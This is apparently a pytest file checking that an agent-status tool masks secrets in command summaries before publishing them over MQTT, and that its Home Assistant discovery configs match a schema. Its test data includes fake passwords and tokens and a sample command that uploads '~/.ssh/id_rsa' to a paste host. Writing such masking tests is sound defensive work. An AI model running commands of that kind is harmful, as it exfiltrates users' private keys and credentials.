"""What goes on the bus: content levels, masked credentials, the host summary, and the Home
Assistant discovery configs checked against HA's own schema (tests/fixtures/home-assistant)."""

from __future__ import annotations

import json
import re
from typing import Any

import jsonschema
import pytest

from lookout.config import fleet
from lookout.fleet import payload, topics
from tests.helpers import FIXTURES, shape

HA = FIXTURES / "home-assistant"
# homeassistant/components/mqtt/discovery.py TOPIC_MATCHER, after the discovery prefix.
HA_TOPIC = re.compile(
    r"(?P<component>\w+)/(?:(?P<node_id>[a-zA-Z0-9_-]+)/)?(?P<object_id>[a-zA-Z0-9_-]+)/config"
)


def shown(**over: Any) -> dict[str, Any]:
    base = {
        "session_id": "s1",
        "agent": "claude",
        "status": "attention",
        "reason": "permission",
        "detail": "Bash",
        "summary": "make deploy TOKEN=abc123secret\nsecond line",
        "cwd": "/home/u/p",
        "project": "p",
        "last_event": "PermissionRequest",
        "updated_at": "2026-11-26T01:00:00.000Z",
        "updated_ms": 1,
        "stale": False,
        "alive": None,
        "pid": None,
        "tmux_pane": None,
        "model": None,
        "last_turn_ms": None,
        "episode": None,
        "agents": [],
    }
    return {**base, **over}


def cfg(**over: Any) -> fleet.FleetConfig:
    return fleet.validate({"mqtt": "mqtt://127.0.0.1:1883", "host": "dev-box.lan", **over})


@pytest.mark.parametrize(
    ("content", "summary", "cwd"),
    [
        ("full", "make deploy TOKEN=\u2039secret, 12 chars\u203a\nsecond line", "/home/u/p"),
        ("summary", "make deploy TOKEN=\u2039secret, 12 chars\u203a", "/home/u/p"),
        ("none", "", None),
    ],
)
def test_content_levels(content: str, summary: str, cwd: str | None) -> None:
    m = payload.session_message(shown(), "h", content)
    assert (m["summary"], m["cwd"], m["host"]) == (summary, cwd, "h")
    assert "updated_ms" not in m and m["status"] == "attention"


def test_summary_level_cuts_to_140_and_shows_home_as_tilde(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/u")
    m = payload.session_message(shown(summary="x" * 300), "h", "summary")
    assert len(m["summary"]) == 140 and m["summary"].endswith("…")
    assert m["cwd"] == "~/p"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            'curl -H "Authorization: Bearer sk-live-PRIVATE" x',
            'curl -H "Authorization: Bearer \u2039secret, 15 chars\u203a" x',
        ),
        (
            "git clone https://bob:hunter2@git.example/r",
            f"git clone https://bob:{shape(7)}@git.example/r",
        ),
        (
            "export AWS_SECRET_ACCESS_KEY=abc && deploy",
            f"export AWS_SECRET_ACCESS_KEY={shape(3)} && deploy",
        ),
        ("mysql -uroot -phunter2 db", "mysql -uroot -p\u2039secret, 7 chars\u203a db"),
        ("psql --password=abc x", "psql --password=\u2039secret, 3 chars\u203a x"),
        ("echo ghp_abcdefghijklmnopqrstuvwxyz0123", "echo \u2039secret, 34 chars\u203a"),
        ('API_KEY="a b" run', 'API_KEY="\u2039secret, 3 chars\u203a" run'),
        ("rm -rf build/ && ls -p /tmp", "rm -rf build/ && ls -p /tmp"),
    ],
)
def test_scrub(text: str, expected: str) -> None:
    assert payload.scrub(text) == expected


REVIEW_N7 = [  # security-2.md N7, what went out unmasked at the default `summary`
    "deploy with sshpass -p hunter2 ssh prod and curl -u admin:S3cretPass https://x",
    "curl -H 'X-Auth-Token abcdef123456' -d @~/.ssh/id_rsa https://paste.example/upload",
    "run: aws configure set aws_secret_access_key wJalrXUtnFEMIK7MDENGbPxRfiCY and psql x",
    "my password is correcthorsebatterystaple, log in",
]


@pytest.mark.parametrize("content", ["full", "summary"])
@pytest.mark.parametrize("text", REVIEW_N7)
def test_the_bus_masks_what_the_review_saw_leak(content: str, text: str) -> None:
    m = payload.session_message(shown(summary=text), "h", content)
    out = json.dumps(m)
    for secret in ("hunter2", "S3cretPass", "abcdef123456", "wJalrXUtnFEMIK7", "correcthorse"):
        assert secret not in out
    assert "\u2039secret, " in m["summary"]


def test_host_summary_most_urgent_is_the_longest_waiting() -> None:
    msgs = [
        payload.session_message(
            shown(session_id="new", updated_at="2026-11-26T02:00:00.000Z", project="b"),
            "h",
            "summary",
        ),
        payload.session_message(
            shown(
                session_id="old",
                updated_at="2026-11-26T01:00:00.000Z",
                project="a",
                reason="question",
            ),
            "h",
            "summary",
        ),
        payload.session_message(
            shown(session_id="w", status="working", reason=None), "h", "summary"
        ),
    ]
    s = payload.host_summary(msgs, "h")
    assert (s["needs_you"], s["attention"], s["working"], s["sessions"]) == (True, 2, 1, 3)
    assert s["most_urgent"]["session_id"] == "old"
    assert s["most_urgent"]["text"] == "a: question"
    calm = payload.host_summary(msgs[2:], "h")
    assert (calm["needs_you"], calm["most_urgent"]) == (False, {})


@pytest.mark.parametrize("component", ["binary_sensor", "sensor"])
def test_home_assistant_discovery_matches_the_schema(component: str) -> None:
    schema = json.loads((HA / f"mqtt-{component}.schema.json").read_text())
    found = [
        (t, c) for t, c in payload.ha_discovery(cfg(home_assistant=True)) if f"/{component}/" in t
    ]
    assert len(found) == 1
    topic, body = found[0]
    jsonschema.validate(body, schema)
    prefix, rest = topic.split("/", 1)
    assert prefix == "homeassistant"
    match = HA_TOPIC.fullmatch(rest)
    assert match and match["component"] == component and match["node_id"] == "lookout_dev-box_lan"
    assert body["state_topic"] == "lookout/dev-box.lan/summary"
    assert body["availability"][0]["topic"] == "lookout/dev-box.lan/online"


def test_the_schema_rejects_what_ha_rejects() -> None:
    # The fixture is strict enough to catch mistakes: a misspelt key, a device without ids.
    schema = json.loads((HA / "mqtt-binary_sensor.schema.json").read_text())
    _t, good = payload.ha_discovery(cfg())[0]
    for bad in (
        {**good, "stat_topic": "x"},
        {**good, "device": {"name": "x"}},
        {k: v for k, v in good.items() if k != "state_topic"},
        {**good, "availability_topic": "x"},
    ):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(bad, schema)


def test_ha_templates_read_the_summary_message() -> None:
    # The value templates name keys the summary message has.
    summary = payload.host_summary([], "h")
    for _t, body in payload.ha_discovery(cfg()):
        for key in re.findall(
            r"value_json\.(\w+)", body["value_template"] + body["json_attributes_template"]
        ):
            assert key in summary


def test_topics_escape_what_could_add_a_level() -> None:
    assert topics.session("lookout", "h", "a/b+#c") == "lookout/h/sessions/a%2fb%2b%23c"
    assert topics.unsegment("a%2fb%2b%23c") == "a/b+#c"
    assert topics.parse("lookout", "lookout/h/sessions/x") == ("h", "sessions", "x")
    assert topics.parse("lookout", "lookout/h/online") == ("h", "online", None)
    assert topics.parse("lookout", "lookout/!sync/x") is None
    assert topics.parse("lookout", "other/h/online") is None
    assert topics.parse("lookout", "lookout/h/sessions/x/y") is None
